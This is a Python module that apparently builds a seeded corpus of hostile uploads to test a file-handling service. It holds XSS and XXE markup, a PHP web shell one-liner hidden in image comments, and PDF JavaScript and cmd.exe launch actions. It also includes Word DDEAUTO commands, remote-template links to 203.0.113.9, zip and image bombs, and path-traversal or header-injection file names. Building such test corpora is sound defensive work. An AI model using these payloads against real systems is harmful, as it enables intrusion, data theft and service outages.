"""What would somebody send who means harm? Made from code with a recorded seed; nothing of it lies in the repository."""

import io
import random
import stat
import struct
import zipfile
import zlib
from typing import NamedTuple

import pikepdf
from PIL import Image

from . import samples
from .samples import AMR, DOCX, HONEST, JPEG, PDF, PNG, WORDS, XLSX, box, film, office, ole, pdf, picture, sound, with_parts

SEED = 20261122
MUTATIONS = 240  # of those that are sent; many more are looked at without being sent (mutating.py)
DOOR, HELD, ANYTHING = "refused at the door", "never opened", "nothing of it runs or tells"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = b"<script>alert(document.cookie)</script>"
MARKUP = {
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>",
    "html": b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>",
    "xhtml": b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + b"</html>",
    "xxe": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "laughs": b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>',
}
PROGRAMS = {
    "exe": b"MZ\x90\0\3\0\0\0" + bytes(200), "elf": b"\x7fELF\2\1\1" + bytes(200), "lnk": b"L\0\0\0\1\x14\2\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(80),
    "class": b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(80), "macho": b"\xcf\xfa\xed\xfe" + bytes(120), "cab": b"MSCF\0\0\0\0" + bytes(80),
    "rar": b"Rar!\x1a\x07\0" + bytes(80), "7z": b"7z\xbc\xaf\x27\x1c\0\4" + bytes(80), "gz": b"\x1f\x8b\x08\0" + bytes(80), "wasm": b"\0asm\1\0\0\0" + bytes(40),
    "chm": b"ITSF\3\0\0\0" + bytes(80), "swf": b"FWS\x09" + bytes(80), "iso": bytes(32769) + b"CD001\1" + bytes(100), "rtf": b"{\\rtf1{\\object\\objdata 01}}\0",
}  # fmt: skip
LABELS = ["照片.jpg", "文件.pdf", "../../../../etc/passwd", "x.jpg.exe", "gpj\u202efdp.exe", "证" * 90 + ".pdf", "a.txt:evil.pdf", "con.pdf", "名\r\nX-Evil: 1.pdf",
          "<img src=x onerror=alert(1)>.png", '"; filename="evil.html', "a\0.pdf", "%2e%2e%2fpasswd", ".htaccess", "=HYPERLINK(\"http://x\").csv"]  # fmt: skip


class Attack(NamedTuple):
    label: str
    content: bytes
    wanted: str
    what: str = ""


def zipped(*entries, **how):
    """A zip of ZipInfo or names, with their contents."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return target.getvalue()


def link(name, target="/etc/passwd"):
    entry = zipfile.ZipInfo(name)
    entry.create_system, entry.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    return entry, target


def bomb(megabytes):
    """A docx that is small and unpacks to that much."""
    return with_parts(DOCX, {"word/media/image1.bin": bytes(megabytes << 20)})


def many_entries(number):
    """That many names in the directory of a zip that says it is a docx; written by hand, because a library would take a minute."""
    body, directory = io.BytesIO(), io.BytesIO()
    names = [b"[Content_Types].xml", b"word/document.xml", *(b"%06x" % place for place in range(number))]
    for name in names:
        offset = body.tell()
        body.write(struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0) + name)
        directory.write(struct.pack("<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0, 0, 0, 0, 0, offset) + name)
    start, listed = body.tell(), min(len(names), 0xFFFF)
    return body.getvalue() + directory.getvalue() + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, listed, listed, directory.tell(), start, 0)


def overlapping():
    """Every name leads to the same bytes: a bomb without recursion."""
    raw = bytearray(with_parts(DOCX, {f"word/part{place}.bin": bytes(1 << 20) for place in range(20)}))
    end = raw.rfind(b"PK\5\6")
    place, offsets = struct.unpack_from("<L", raw, end + 16)[0], []
    while raw[place : place + 4] == b"PK\1\2":
        sizes = struct.unpack_from("<3H", raw, place + 28)
        if raw[place + 46 : place + 56] == b"word/part1":
            offsets.append(place + 42)
        place += 46 + sum(sizes)
    for at in offsets[1:]:
        raw[at : at + 4] = raw[offsets[0] : offsets[0] + 4]
    return bytes(raw)


def encrypted_zip():
    raw = bytearray(office())
    for mark, at in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        place = raw.find(mark)
        raw[place + at] |= 1
    return bytes(raw)


def png(width, height, rows=b""):
    """A picture that says it is that large."""

    def chunk(name, content):
        return struct.pack(">L", len(content)) + name + content + struct.pack(">L", zlib.crc32(name + content))

    head = struct.pack(">2L5B", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows or bytes(1000))) + chunk(b"IEND", b"")


def frames(number):
    """A GIF of that many pictures of one point, by hand."""
    one = b"!\xf9\4\0\0\0\0\0,\0\0\0\0\1\0\1\0\0\2\2D\1\0"
    return b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff" + one * number + b";"


def acting(kind):
    """A PDF that does something, in each of the places where a reader looks."""
    name = pikepdf.Name

    def change(paper):
        script = pikepdf.Dictionary(S=name.JavaScript, JS="app.alert(1)")
        run = pikepdf.Dictionary(S=name.Launch, F="cmd.exe")
        if kind == "open":
            paper.Root.OpenAction = script
        elif kind == "launch":
            paper.Root.OpenAction = run
        elif kind == "page":
            paper.pages[0].obj.AA = pikepdf.Dictionary(O=paper.make_indirect(script))
        elif kind == "names":
            paper.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["a", script])))
        elif kind == "embedded":
            paper.attachments["evil.exe"] = PROGRAMS["exe"]
        elif kind == "annotation":
            note = pikepdf.Dictionary(Type=name.Annot, Subtype=name.Link, Rect=pikepdf.Array([0, 0, 9, 9]), A=run)
            paper.pages[0].obj.Annots = pikepdf.Array([note])
        elif kind == "rich":
            note = pikepdf.Dictionary(Type=name.Annot, Subtype=name.RichMedia, Rect=pikepdf.Array([0, 0, 9, 9]))
            paper.pages[0].obj.Annots = pikepdf.Array([paper.make_indirect(note)])
        elif kind == "xfa":
            paper.Root.AcroForm = pikepdf.Dictionary(XFA=paper.make_stream(b"<xdp/>"), Fields=pikepdf.Array([]))
        elif kind == "next":
            paper.Root.OpenAction = pikepdf.Dictionary(S=name.GoTo, D=pikepdf.Array([]), Next=script)

    return change


ACTIONS = ("open", "launch", "page", "names", "embedded", "annotation", "rich", "xfa", "next")


def relation(kind, target):
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" TargetMode="External" Target="{target}"/></Relationships>'
    )


def papers():
    for kind in ACTIONS:
        yield f"PDF: {kind}", pdf(change=acting(kind))
        yield f"PDF: {kind}, in compressed objects", pdf(change=acting(kind), object_stream_mode=pikepdf.ObjectStreamMode.generate)
    plain = pdf(change=acting("open"), object_stream_mode=pikepdf.ObjectStreamMode.disable)
    yield "PDF: name written in hexadecimal", plain.replace(b"/JavaScript", b"/#4aavaScript").replace(b"/JS", b"/#4aS")
    for bits, aes in ((4, False), (6, True)):
        yield f"PDF: password, R{bits}", pdf(encryption=pikepdf.Encryption(owner="a", user="b", R=bits, aes=aes, metadata=aes))


def documents():
    """What hides in Word and Excel."""
    for parts, folder in ((DOCX, "word"), (XLSX, "xl")):
        for name in (
            f"{folder}/vbaProject.bin",
            f"{folder}/activeX/activeX1.bin",
            f"{folder}/VBAPROJECT.BIN",
            f"{folder}/macrosheets/sheet1.xml",
        ):
            yield f"{folder}: {name}", with_parts(parts, {name: b"x"})
        for name in (
            "embeddings/oleObject1.bin",
            "embeddings/a.docx",
            "media/a.zip",
            "x.exe",
            "run.vbs",
            "shortcut.lnk",
            "embeddings/p.pdf",
        ):
            yield f"{folder}: {name}", with_parts(parts, {f"{folder}/{name}": PROGRAMS["exe"]})
        for name in ("../../etc/passwd", "/etc/passwd", "..\\..\\x", "C:/x", f"{folder}/../../../x"):
            yield f"{folder}: {name}", with_parts(parts, {name: "x"})
        yield f"{folder}: program with the name of a picture", with_parts(parts, {f"{folder}/media/image1.png": PROGRAMS["exe"]})
        yield f"{folder}: archive with the name of a picture", with_parts(parts, {f"{folder}/media/image1.png": zipped(("a", "b"))})
        for kind in ("attachedTemplate", "oleObject", "image", "frame", "subDocument", "externalLinkPath"):
            yield (
                f"{folder}: {kind} from elsewhere",
                with_parts(parts, {f"{folder}/_rels/x.xml.rels": relation(kind, "http://203.0.113.9/t.dotm")}),
            )
        yield f"{folder}: entities", with_parts(parts, {f"{folder}/styles.xml": MARKUP["laughs"]})
        yield f"{folder}: entities in UTF-16", with_parts(parts, {f"{folder}/styles.xml": MARKUP["xxe"].decode().encode("utf-16")})
        linked = [*parts.items(), link(f"{folder}/media/x")]
        yield f"{folder}: symbolic link", zipped(*linked)
        yield (
            f"{folder}: says that it has macros",
            with_parts(parts, {"[Content_Types].xml": '<Types ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'}),
        )
    yield (
        "word: DDE",
        with_parts(
            DOCX,
            {"word/document.xml": DOCX["word/document.xml"].replace(WORDS, "</w:t><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText><w:t>")},
        ),
    )
    yield "excel: DDE", with_parts(XLSX, {"xl/externalLinks/externalLink1.xml": "<externalLink><ddeLink ddeService='cmd'/></externalLink>"})
    yield "bomb of 300 MB", bomb(300)
    yield "overlapping parts", overlapping()
    yield "encrypted parts", encrypted_zip()
    yield (
        "cell in the last corner",
        with_parts(XLSX, {"xl/worksheets/sheet1.xml": XLSX["xl/worksheets/sheet1.xml"].replace('r="B1"', 'r="XFD1048576"')}),
    )
    for name in ("_VBA_PROJECT_CUR", "Macros", "EncryptedPackage", "Equation Native", "ObjectPool", "\1Ole10Native", "VBA"):
        yield f"doc: {name}", ole("WordDocument", name)
        yield f"xls: {name}", ole("Workbook", name)


def pictures():
    yield "PNG 50,000 × 50,000", png(50_000, 50_000)
    yield "PNG 100,000 × 1,000", png(100_000, 1_000)
    yield "PNG with an IDAT that unpacks to 200 MB", png(8_000, 8_000, bytes(200 << 20))
    yield "GIF of 100,000 frames", frames(100_000)
    yield "GIF that says 65,535 × 65,535", b"GIF89a\xff\xff\xff\xff" + frames(1)[10:]
    yield "JPEG cut off", picture("JPEG", (400, 300))[:900]
    yield "JPEG head alone", JPEG[:20]
    yield "PNG cut off", picture("PNG", (300, 300))[:200]
    yield "HEIC head alone", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(200)


def recordings():
    deep = b""
    for _place in range(40):
        deep = box(b"trak", deep)
    yield "MP4: boxes in boxes", film(box(b"moov", deep))
    yield "MP4: 20,000 boxes", film(*[box(b"free")] * 20_000)
    yield (
        "MP4: table of 4 thousand million",
        film(box(b"moov", box(b"trak", box(b"mdia", box(b"minf", box(b"stbl", box(b"stco", b"\0\0\0\0\xff\xff\xff\xff"))))))),
    )
    yield "MP4: box larger than the file", film(struct.pack(">L4s", 0x7FFFFFFF, b"moov"))
    yield "MP4: box of no size", film(struct.pack(">L4s", 4, b"moov"))
    yield "MP4 without a film", box(b"ftyp", b"isom\0\0\2\0isomiso2mp41") + box(b"mdat", bytes(50))
    yield "MP3: tag larger than the file", b"ID3\3\0\0\x7f\x7f\x7f\x7f" + bytes(200)


def polyglots():
    """Two kinds in one file: host in front, guest behind; or the guest within the first bytes."""
    guests = {"docx": office(), "zip": zipped(("a.html", SCRIPT)), "rar": PROGRAMS["rar"], "7z": PROGRAMS["7z"]}
    hosts = {"jpg": JPEG, "png": PNG, "gif": picture("GIF"), "pdf": PDF, "mp3": sound(), "mp4": film(), "amr": AMR}
    for host, front in hosts.items():
        for guest, behind in guests.items():
            yield f"{host} with {guest} behind", front + behind
    comment = b"\xff\xfe" + struct.pack(">H", 2 + len(PDF)) + PDF
    yield "JPEG with a PDF as its comment", JPEG[:2] + comment + JPEG[2:]
    for name, inside in {"html": MARKUP["html"], "svg": MARKUP["svg"], "php": b"<?php system($_GET[0]); ?>"}.items():
        yield f"JPEG with {name} as its comment", JPEG[:2] + b"\xff\xfe" + struct.pack(">H", 2 + len(inside)) + inside + JPEG[2:]
        yield (
            f"GIF with {name} behind its head",
            picture("GIF")[:13] + b"!\xfe" + bytes([min(255, len(inside))]) + inside[:255] + b"\0" + picture("GIF")[13:],
        )
    yield "docx behind a PDF head", b"%PDF-1.7\n" + office()
    yield "docx with something behind", office() + SCRIPT
    yield "docx with a PDF as its first part", zipped(("a.pdf", PDF), *DOCX.items())


def disguises():
    """Things nobody may hand in, under every name that lies."""
    for name, content in {**MARKUP, **PROGRAMS}.items():
        for label in ("照片.jpg", "文件.pdf", "说明.docx", f"a.{name}"):
            yield label, content, f"{name} as {label}"
    for space in (b"\xef\xbb\xbf", b"\n\n  ", b"\t"):
        yield "a.txt", space + MARKUP["html"], "HTML behind white space"
    for name, content in {
        "a.docm": office(**{"word/vbaProject.bin": b"x"}),
        "a.zip": zipped(("a", "b")),
        "a.jar": zipped(("META-INF/MANIFEST.MF", "")),
    }.items():
        yield name, content, name


def attacks():
    """Every file with what has to become of it."""
    rolled = random.Random(SEED)
    for label, content, what in disguises():
        yield Attack(label, content, ANYTHING if what.startswith(("HTML", "rtf")) else DOOR, what)
    for make, label in (
        (papers, "文件.pdf"),
        (documents, "说明.docx"),
        (pictures, "照片.png"),
        (recordings, "录像.mp4"),
        (polyglots, "照片.jpg"),
    ):
        for what, content in make():
            yield Attack(label, content, HELD, what)
    yield Attack("无.txt", b"", DOOR, "0 bytes")
    for label in ("a.txt", "a.pdf", "a.jpg"):
        yield Attack(label, EICAR, HELD, "EICAR")
    yield Attack("a.docx", many_entries(60_000), DOOR, "60,000 names in a zip")
    yield Attack(
        "深.docx", with_parts(DOCX, {"word/document.xml": "<a>" * 300_000 + "</a>" * 300_000}), ANYTHING, "300,000 tags in each other"
    )
    yield Attack("百万.docx", many_entries(220_000), DOOR, "220,000 names in 20 MB")
    for label in LABELS:
        for name, content in list(HONEST.items())[:3]:
            yield Attack(label, content, ANYTHING, f"{name} called {label!r}")
    for name, content in HONEST.items():
        yield Attack(name, content, ANYTHING, "honest")
    yield Attack("现场.jpg", samples.photograph(), ANYTHING, "the same file twice")
    yield from mutations(rolled, MUTATIONS)


def mutations(rolled, number):
    """Honest files of every kind with bytes changed, cut out, doubled or swapped with those of another kind."""
    names = list(HONEST)
    for _place in range(number):
        name = rolled.choice(names)
        content = bytearray(HONEST[name])
        for _blow in range(rolled.randint(1, 8)):
            at = rolled.randrange(len(content))
            kind = rolled.randrange(5)
            if kind == 0:
                content[at] = rolled.randrange(256)
            elif kind == 1 and len(content) > 40:
                del content[at : at + rolled.randint(1, 30)]
            elif kind == 2:
                content[at:at] = content[at : at + rolled.randint(1, 60)]
            elif kind == 3:
                other = HONEST[rolled.choice(names)]
                start = rolled.randrange(len(other))
                content[at : at + 20] = other[start : start + 20]
            else:
                content[at : at + 4] = rolled.choice([b"\xff\xff\xff\xff", b"\0\0\0\0", b"\x7f\xff\xff\xff", b"%PDF", b"PK\3\4"])
        yield Attack(name, bytes(content), ANYTHING, f"mutation of {name}")


def shows_something(content) -> bool:
    """Is it a picture that a browser can draw?"""
    try:
        with Image.open(io.BytesIO(content), formats=["WEBP"]) as drawn:
            drawn.load()
            return not (drawn.getexif() or drawn.info.get("xmp") or drawn.info.get("icc_profile"))
    except OSError:
        return False
